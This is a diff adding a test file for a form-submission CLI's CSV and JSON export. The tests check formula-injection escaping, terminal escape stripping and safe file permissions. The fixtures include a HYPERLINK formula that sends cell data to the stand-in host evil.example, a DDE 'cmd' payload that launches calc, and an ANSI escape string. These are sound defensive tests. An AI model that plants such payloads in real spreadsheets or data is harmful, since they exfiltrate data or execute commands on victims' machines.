@@ -1,0 +1,143 @@
+import {mkdtemp, readFile, rm, stat} from 'node:fs/promises';
+import {tmpdir} from 'node:os';
+import {join} from 'node:path';
+import {openStore} from '../../src/server/store/open';
+import {forms} from './setup/command';
+import {ENQUIRY} from './setup/forms';
+import {parseCsv} from './setup/csv';
+import {fill, save, type Ids} from './setup/filled-store';
+
+const HEADER =
+  'id,form,receivedAt,held,name,email,phoneNumber,companyName,enquiries,position,fileName,' +
+  'fileType,fileSize,fileSha256,fileWarnings,suspicionScore,suspicionSigns,mail,sheet';
+
+/** What spreadsheets have been made to run, and what only looks like it. */
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3+cmd|x',
+  '@SUM(1+1)*cmd|x',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\u0000=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1)',
+];
+
+const HARMLESS = ['a=1', 'Rao, "Asha"', 'two\r\nlines', "O'Hara & Söhne", '株式会社', '3 = three'];
+
+let folder: string;
+let env: {DATA_DIR: string};
+let ids: Ids;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'cli-export-'));
+  env = {DATA_DIR: folder};
+  const store = await openStore({dataDir: folder});
+  ids = await fill(store);
+  for (const companyName of [...FORMULAS, ...HARMLESS]) {
+    await save(store, {form: 'contact', fields: {...ENQUIRY, companyName}});
+  }
+  await store.close();
+});
+afterAll(() => rm(folder, {recursive: true, force: true}));
+
+const rowsOf = async (...args: string[]) => {
+  const {out} = await forms(['export', '--csv', ...args], env);
+  return parseCsv(out.replace('\uFEFF', ''));
+};
+
+const companies = async () => (await rowsOf()).map(({companyName}) => companyName);
+
+test('CSV begins with a byte order mark and a row of names, and ends every row with CRLF', async () => {
+  const {code, out, error} = await forms(['export', '--csv'], env);
+  expect({code, error}).toEqual({code: 0, error: ''});
+  expect(out.startsWith(`\uFEFF${HEADER}\r\n`)).toBe(true);
+  expect(out.endsWith('\r\n')).toBe(true);
+});
+
+test('CSV has a row for each submission, oldest first', async () => {
+  const rows = await rowsOf();
+  expect(rows).toHaveLength(3 + FORMULAS.length + HARMLESS.length);
+  expect(rows.slice(0, 3).map(({id}) => id)).toEqual([ids.enquiry, ids.application, ids.held]);
+  expect(rows[1]).toMatchObject({
+    form: 'careers',
+    held: 'no',
+    name: 'Ravi Kumar',
+    position: 'Fresher',
+    companyName: '',
+    fileName: 'my cv.pdf',
+    fileWarnings: 'macros',
+    mail: 'waiting',
+    sheet: '',
+  });
+  expect(rows[2]).toMatchObject({held: 'yes', suspicionSigns: 'honeypot, no-token', mail: 'held'});
+});
+
+// ASVS 5.0, 1.2.10: CSV and formula injection.
+test.each(FORMULAS)('a spreadsheet does not take %j for a formula', async (formula) => {
+  expect(await companies()).toContain(`'${formula}`);
+});
+
+// ASVS 5.0, 1.2.10: RFC 4180, sections 2.6 and 2.7.
+test.each(HARMLESS)('%j stays as it is', async (text) => {
+  expect(await companies()).toContain(text);
+});
+
+test('no cell at all begins like a formula', async () => {
+  const cells = (await rowsOf()).flatMap((row) => Object.values(row));
+  expect(cells.filter((cell) => /^[=+\-@\t\r\n\0]/.test(cell))).toEqual([]);
+});
+
+test('JSON lines have the text as it was sent', async () => {
+  const {out} = await forms(['export', '--json'], env);
+  const submissions = out
+    .trimEnd()
+    .split('\n')
+    .map((line) => JSON.parse(line) as {fields: Record<string, string>});
+  expect(submissions.map(({fields}) => fields.companyName)).toEqual([
+    'Evil \u001b[31m & Co',
+    undefined,
+    ENQUIRY.companyName,
+    ...FORMULAS,
+    ...HARMLESS,
+  ]);
+});
+
+test('an export can be narrowed', async () => {
+  expect((await rowsOf('--form', 'careers')).map(({id}) => id)).toEqual([ids.application]);
+  expect((await rowsOf('--held')).map(({id}) => id)).toEqual([ids.held]);
+});
+
+test('a file is for its owner alone, and never written over', async () => {
+  const {code, out, error} = await forms(['export', '--out', 'all.csv'], env, {folder});
+  const path = join(folder, 'all.csv');
+  expect({code, out}).toEqual({code: 0, out: ''});
+  expect(error).toBe(`${3 + FORMULAS.length + HARMLESS.length} submissions in ${path}\n`);
+  expect((await stat(path)).mode & 0o777).toBe(0o600);
+  const written = await readFile(path, 'utf8');
+  expect(written).toBe((await forms(['export'], env)).out);
+  const again = await forms(['export', '--out', 'all.csv', '--held'], env, {folder});
+  expect(again).toMatchObject({code: 1, error: expect.stringContaining('exists already')});
+  expect(await readFile(path, 'utf8')).toBe(written);
+});
+
+test('on a terminal nothing is printed that it would obey', async () => {
+  const {out} = await forms(['export'], env, {isTTY: true});
+  expect(out).not.toContain('\u001b');
+  expect(out).toContain('Evil \\u001b[31m & Co');
+});
+
+test('a bar shows on a terminal how far it has come, lines on a plain one', async () => {
+  const watched = await forms(['export', '--out', 'watched.csv'], env, {folder, isTTY: true});
+  expect(watched.error).toContain('\r[####################] Exporting: 100 %');
+  const dumb = {...env, TERM: 'dumb'};
+  const plain = await forms(['export', '--out', 'plain.csv'], dumb, {folder, isTTY: true});
+  expect(plain.error).not.toContain('\r');
+  expect(plain.error).toMatch(/^Exporting: 100 % \(24 of 24\)$/m);
+});
